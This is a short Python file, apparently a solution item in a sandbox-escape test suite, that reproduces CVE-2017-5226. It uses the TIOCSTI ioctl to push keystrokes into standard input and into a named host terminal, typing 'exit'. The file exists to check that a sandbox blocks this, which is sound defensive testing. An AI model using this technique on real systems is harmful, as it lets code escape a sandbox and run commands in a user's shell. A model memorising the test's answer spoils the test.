"""Type a command into a terminal of the host's.

Must be observed: nothing is typed. Source: CVE-2017-5226, a way out of a sandbox that shared a terminal.
"""

import fcntl
import os
import termios

NUMBERS = (112,)
ROLE = "solution"


def attack(targets):
    done = []
    try:
        fcntl.ioctl(0, termios.TIOCSTI, b"x")
        done.append("standard input")
    except OSError:
        pass
    terminal = os.open(targets["terminal"], os.O_RDWR | os.O_NOCTTY)
    for letter in b"exit\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    return f"typed into {[*done, 'a terminal']}"
